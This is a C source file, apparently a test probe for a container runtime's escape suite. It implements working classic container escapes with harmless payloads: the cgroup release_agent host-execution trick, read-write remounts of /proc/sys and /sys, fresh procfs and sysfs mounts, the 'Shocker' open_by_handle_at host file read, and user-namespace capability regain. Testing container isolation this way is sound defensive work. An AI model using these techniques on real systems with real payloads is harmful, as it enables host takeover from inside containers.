/*
 * Classic container escapes, each with a harmless payload, for step 08's escape suite.
 *
 *   escape-probe <probe> [args]      run inside a container; prints exactly one line:
 *     ESCAPED <what it did>          exit 0: the escape worked
 *     BLOCKED <call>: <errno name>   exit 1: the kernel refused the call that matters
 *     PROBE-ERROR <why>              exit 2: the probe itself could not run (a bug, bad arguments)
 *
 *   escape-probe make-handle PATH    on the host: the file handle of PATH, for `shocker`
 *   escape-probe host-session-key DESC SECRET -- CMD...
 *                                    on the host: a new anonymous session keyring holding a user
 *                                    key, then exec CMD (the key dies with the keyring)
 *
 * Nothing global of the host changes for good: the cgroup hierarchy is unmounted, sysctl and sysfs
 * files are rewritten with the value they already hold, mounts are undone.
 *
 * Built static (the rootfs has no glibc) by the test kit: cc -static -O2.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sched.h>
#include <time.h>
#include <unistd.h>

static int escaped(const char *format, ...) {
  va_list args;
  va_start(args, format);
  fputs("ESCAPED ", stdout);
  vprintf(format, args);
  va_end(args);
  putchar('\n');
  return 0;
}

/* errno is read before anything else can change it: the caller passes it in. */
static int blocked(const char *call, int error) {
  const char *name = strerrorname_np(error);
  printf("BLOCKED %s: %s\n", call, name ? name : "?");
  return 1;
}

static int probe_error(const char *format, ...) {
  int error = errno;
  va_list args;
  va_start(args, format);
  fputs("PROBE-ERROR ", stdout);
  vprintf(format, args);
  va_end(args);
  printf(" (%s)\n", strerrorname_np(error) ? strerrorname_np(error) : "?");
  return 2;
}

/* The whole of a small file, NUL-terminated; -1 with errno set. */
static ssize_t read_file(const char *path, char *buffer, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  size_t total = 0;
  ssize_t n;
  while (total + 1 < size && (n = read(fd, buffer + total, size - 1 - total)) > 0) total += n;
  int error = errno;
  close(fd);
  buffer[total] = '\0';
  errno = error;
  return n < 0 ? -1 : (ssize_t)total;
}

static int write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  int error = errno;
  close(fd);
  errno = error;
  return n < 0 ? -1 : 0;
}

static void first_line(char *text) {
  text[strcspn(text, "\n")] = '\0';
}

/* A directory of our own under /tmp (the rootfs), for a mount point that is removed afterwards. */
static int fresh_dir(char *path, size_t size, const char *what) {
  snprintf(path, size, "/tmp/escape-probe-%s-XXXXXX", what);
  return mkdtemp(path) ? 0 : -1;
}

static unsigned random_number(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (unsigned)(now.tv_nsec ^ getpid());
}

/* A new filesystem of `fstype` on a fresh directory: 0, or the probe's result when it cannot be. */
static int mount_fresh(const char *fstype, char *dir, size_t size, unsigned long flags, const char *data) {
  char call[32];
  if (fresh_dir(dir, size, fstype) < 0) return probe_error("mkdtemp under /tmp");
  if (mount(fstype, dir, fstype, flags, data) == 0) return 0;
  int error = errno;
  rmdir(dir);
  snprintf(call, sizeof call, "mount %s", fstype);
  return blocked(call, error);
}

/*
 * 1. A v1 hierarchy of our own, release_agent = a script at its HOST path: when a cgroup with
 *    notify_on_release empties, the kernel runs the agent as root in the host's namespaces.
 */
static int release_agent(const char *host_dir) {
  char mountpoint[64], options[64], child[128], path[256], agent[512], marker[512], script[2048];
  snprintf(options, sizeof options, "none,name=escape-probe-%u", random_number());
  int mounted = mount_fresh("cgroup", mountpoint, sizeof mountpoint, 0, options);
  if (mounted != 0) return mounted;
  snprintf(agent, sizeof agent, "%s/release-agent.sh", host_dir);
  snprintf(marker, sizeof marker, "%s/release-agent-ran", host_dir);
  snprintf(script, sizeof script, "#!/bin/sh\n{ id; hostname; } > %s.tmp && mv %s.tmp %s\n", marker, marker, marker);
  int result;
  int fd = open("/probe/release-agent.sh", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0 || write(fd, script, strlen(script)) < 0 || close(fd) < 0) {
    result = probe_error("writing /probe/release-agent.sh (is the test's directory bound at /probe?)");
    goto unmount;
  }
  snprintf(path, sizeof path, "%s/release_agent", mountpoint);
  if (write_file(path, agent) < 0) {
    result = blocked("write release_agent", errno);
    goto unmount;
  }
  snprintf(child, sizeof child, "%s/x", mountpoint);
  snprintf(path, sizeof path, "%s/notify_on_release", child);
  if (mkdir(child, 0755) < 0 || write_file(path, "1") < 0) {
    result = blocked("notify_on_release", errno);
    goto unmount;
  }
  snprintf(path, sizeof path, "%s/cgroup.procs", child);
  pid_t pid = fork();
  if (pid == 0) _exit(write_file(path, "0") < 0 ? 1 : 0); /* "0": the writer itself */
  int status = 0;
  waitpid(pid, &status, 0);
  if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
    result = probe_error("moving a process into %s", child);
    goto unmount;
  }
  char seen[512] = "";
  for (int tries = 0; tries < 100 && read_file("/probe/release-agent-ran", seen, sizeof seen) < 0; tries++)
    usleep(50 * 1000);
  if (seen[0] == '\0') {
    result = blocked("release_agent (the agent never ran)", ETIMEDOUT);
  } else {
    for (char *c = seen; *c; c++)
      if (*c == '\n') *c = ' ';
    char inside[256] = "?";
    gethostname(inside, sizeof inside);
    result = escaped("release_agent ran %s on the host: %s(the container's hostname: %s)", agent, seen, inside);
  }
unmount:
  rmdir(child);
  umount2(mountpoint, MNT_DETACH);
  rmdir(mountpoint);
  return result;
}

/* The flags a bind remount must keep: in a user namespace the kernel refuses to clear locked ones. */
static unsigned long kept_flags(const char *path) {
  struct statvfs info;
  unsigned long flags = 0;
  if (statvfs(path, &info) < 0) return 0;
  if (info.f_flag & ST_NOSUID) flags |= MS_NOSUID;
  if (info.f_flag & ST_NODEV) flags |= MS_NODEV;
  if (info.f_flag & ST_NOEXEC) flags |= MS_NOEXEC;
  if (info.f_flag & ST_NOATIME) flags |= MS_NOATIME;
  if (info.f_flag & ST_NODIRATIME) flags |= MS_NODIRATIME;
  if (info.f_flag & ST_RELATIME) flags |= MS_RELATIME;
  return flags;
}

/* Rewrites a host-global file with the value it holds: 0, or the errno of the call that failed. */
static int rewrite_same(const char *path, char *value, size_t size, const char **call) {
  *call = "read";
  if (read_file(path, value, size) < 0) return errno;
  *call = "write";
  if (write_file(path, value) < 0) return errno;
  first_line(value);
  return 0;
}

static int rewrite_result(const char *path, const char *how, int error, const char *call, const char *value) {
  if (error != 0) return blocked(call, error);
  return escaped("%s, then wrote %s (host-global) with its own value \"%s\"", how, path, value);
}

/* 2, 3. A read-only bind remounted read-write, then a file that governs the whole host. */
static int remount_rw(const char *mountpoint, const char *file) {
  unsigned long flags = kept_flags(mountpoint);
  if (mount(NULL, mountpoint, NULL, MS_REMOUNT | MS_BIND | flags, NULL) < 0)
    return blocked("mount remount,bind,rw", errno);
  char value[4096];
  const char *call;
  int error = rewrite_same(file, value, sizeof value, &call);
  mount(NULL, mountpoint, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | flags, NULL);
  char how[128];
  snprintf(how, sizeof how, "remounted %s read-write", mountpoint);
  if (error != EROFS) return rewrite_result(file, how, error, call, value);
  /*
   * EROFS though the mount is read-write: the superblock itself is read-only. A sysfs mounted in
   * a network namespace of its own has a superblock of its own (the host's /sys, read-write, is
   * another), so turning this one read-write, then back, touches no mount of the host's.
   */
  if (mount(NULL, mountpoint, NULL, MS_REMOUNT | flags, NULL) < 0) return blocked("mount remount,rw", errno);
  error = rewrite_same(file, value, sizeof value, &call);
  mount(NULL, mountpoint, NULL, MS_REMOUNT | MS_RDONLY | flags, NULL);
  snprintf(how, sizeof how, "remounted %s and its superblock read-write", mountpoint);
  return rewrite_result(file, how, error, call, value);
}

/* 4. A new procfs has none of the masks laid over the container's /proc. */
static int fresh_proc(void) {
  const char *masked = "timer_list";
  char dir[64], path[128], inside[64], seen[512];
  ssize_t masked_bytes = read_file("/proc/timer_list", inside, sizeof inside);
  int mounted = mount_fresh("proc", dir, sizeof dir, MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
  if (mounted != 0) return mounted;
  snprintf(path, sizeof path, "%s/%s", dir, masked);
  ssize_t bytes = read_file(path, seen, sizeof seen);
  int error = errno;
  umount2(dir, MNT_DETACH);
  rmdir(dir);
  if (bytes <= 0) return blocked("read a fresh procfs's timer_list", bytes < 0 ? error : ENODATA);
  first_line(seen);
  return escaped("mounted a new procfs and read its %s (\"%s\"; the container's /proc/%s gives %zd bytes)", masked, seen,
                 masked, masked_bytes);
}

/* The sysfs file rewritten with its own value: KSM acts only when the value changes. */
#define SYSFS_FILE "kernel/mm/ksm/run"

/* 4b. A new sysfs, read-write, where the container's /sys is read-only. */
static int fresh_sys(void) {
  char dir[64], path[128];
  int mounted = mount_fresh("sysfs", dir, sizeof dir, MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
  if (mounted != 0) return mounted;
  snprintf(path, sizeof path, "%s/%s", dir, SYSFS_FILE);
  char value[4096];
  const char *call;
  int error = rewrite_same(path, value, sizeof value, &call);
  umount2(dir, MNT_DETACH);
  rmdir(dir);
  if (error == EROFS) call = "write (the container's sysfs superblock is read-only)";
  return rewrite_result(path, "mounted a new sysfs read-write", error, call, value);
}

/* 5. "Shocker": a handle made on the host names a file outside /probe; /probe's fd is the key. */
static int shocker(const char *hex) {
  unsigned type;
  int consumed = 0;
  if (sscanf(hex, "%x:%n", &type, &consumed) != 1 || consumed == 0)
    return probe_error("shocker wants TYPE:HEXBYTES from make-handle, got %s", hex);
  const char *bytes = hex + consumed;
  size_t length = strlen(bytes) / 2;
  struct file_handle *handle = malloc(sizeof *handle + length);
  handle->handle_bytes = length;
  handle->handle_type = (int)type;
  for (size_t i = 0; i < length; i++) sscanf(bytes + 2 * i, "%2hhx", &handle->f_handle[i]);
  int mount_fd = open("/probe", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) return probe_error("open /probe");
  int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return blocked("open_by_handle_at", errno);
  char content[512];
  ssize_t n = read(fd, content, sizeof content - 1);
  if (n < 0) return blocked("read", errno);
  content[n] = '\0';
  first_line(content);
  return escaped("open_by_handle_at read a host file outside /probe: \"%s\"", content);
}

static int make_handle(const char *path) {
  struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
  handle->handle_bytes = MAX_HANDLE_SZ;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) < 0) return probe_error("name_to_handle_at %s", path);
  printf("%x:", (unsigned)handle->handle_type);
  for (unsigned i = 0; i < handle->handle_bytes; i++) printf("%02x", handle->f_handle[i]);
  putchar('\n');
  return 0;
}

/* 6. A new user namespace gives back every capability, inside it. */
static int unshare_user(void) {
  uid_t uid = geteuid();
  gid_t gid = getegid();
  if (unshare(CLONE_NEWUSER) < 0) return blocked("unshare CLONE_NEWUSER", errno);
  char map[64], status[4096];
  snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
  if (write_file("/proc/self/uid_map", map) < 0) return blocked("write uid_map", errno);
  write_file("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
  if (write_file("/proc/self/gid_map", map) < 0) return blocked("write gid_map", errno);
  if (read_file("/proc/self/status", status, sizeof status) < 0) return probe_error("read /proc/self/status");
  const char *effective = strstr(status, "CapEff:");
  char line[64] = "?";
  if (effective) {
    snprintf(line, sizeof line, "%s", effective + strlen("CapEff:"));
    first_line(line);
  }
  char *value = line + strspn(line, " \t");
  if (strtoull(value, NULL, 16) == 0) return blocked("unshare CLONE_NEWUSER (no capability regained)", EPERM);
  return escaped("unshare(CLONE_NEWUSER) as uid %u, mapped to 0: CapEff %s, uid %u", (unsigned)uid, value,
                 (unsigned)geteuid());
}

static long keyctl(int operation, unsigned long a, unsigned long b, unsigned long c, unsigned long d) {
  return syscall(SYS_keyctl, operation, a, b, c, d);
}

/* 7. The session keyring is inherited across fork and exec, into every namespace. */
static int key_read(const char *description) {
  long key = keyctl(KEYCTL_SEARCH, (unsigned long)KEY_SPEC_SESSION_KEYRING, (unsigned long)"user",
                    (unsigned long)description, 0);
  if (key < 0) return blocked("keyctl search", errno);
  char secret[256];
  long n = keyctl(KEYCTL_READ, (unsigned long)key, (unsigned long)secret, sizeof secret - 1, 0);
  if (n < 0) return blocked("keyctl read", errno);
  secret[n < (long)sizeof secret - 1 ? n : (long)sizeof secret - 1] = '\0';
  return escaped("keyctl read the key \"%s\" of the session keyring it inherited: \"%s\"", description, secret);
}

static int host_session_key(const char *description, const char *secret, char **command) {
  if (keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0) < 0) return probe_error("keyctl join session keyring");
  if (syscall(SYS_add_key, "user", description, secret, strlen(secret), KEY_SPEC_SESSION_KEYRING) < 0)
    return probe_error("add_key");
  execvp(command[0], command);
  return probe_error("exec %s", command[0]);
}

/* 8. A setuid-root file, run by an ordinary user. */
static int setuid_probe(void) {
  uid_t uid = getuid(), euid = geteuid();
  if (euid == 0 && uid != 0) return escaped("euid 0 from a setuid-root file run by uid %u", (unsigned)uid);
  if (uid == 0) return probe_error("setuid must run as an ordinary user (--user 1000), it runs as root");
  printf("BLOCKED execve setuid-root: euid stayed %u\n", (unsigned)euid);
  return 1;
}

static int usage(void) {
  errno = EINVAL;
  return probe_error(
      "usage: escape-probe release-agent HOSTDIR | remount-proc-sys | remount-sys | fresh-proc | fresh-sys | "
      "shocker HANDLE | unshare-user | keyctl DESC | setuid | make-handle PATH | host-session-key DESC SECRET -- CMD...");
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return usage();
  const char *probe = argv[1];
  if (!strcmp(probe, "release-agent") && argc == 3) return release_agent(argv[2]);
  if (!strcmp(probe, "remount-proc-sys") && argc == 2) return remount_rw("/proc/sys", "/proc/sys/kernel/core_pattern");
  if (!strcmp(probe, "remount-sys") && argc == 2) return remount_rw("/sys", "/sys/" SYSFS_FILE);
  if (!strcmp(probe, "fresh-proc") && argc == 2) return fresh_proc();
  if (!strcmp(probe, "fresh-sys") && argc == 2) return fresh_sys();
  if (!strcmp(probe, "shocker") && argc == 3) return shocker(argv[2]);
  if (!strcmp(probe, "unshare-user") && argc == 2) return unshare_user();
  if (!strcmp(probe, "keyctl") && argc == 3) return key_read(argv[2]);
  if (!strcmp(probe, "setuid") && argc == 2) return setuid_probe();
  if (!strcmp(probe, "make-handle") && argc == 3) return make_handle(argv[2]);
  if (!strcmp(probe, "host-session-key") && argc >= 6 && !strcmp(argv[4], "--"))
    return host_session_key(argv[2], argv[3], argv + 5);
  return usage();
}
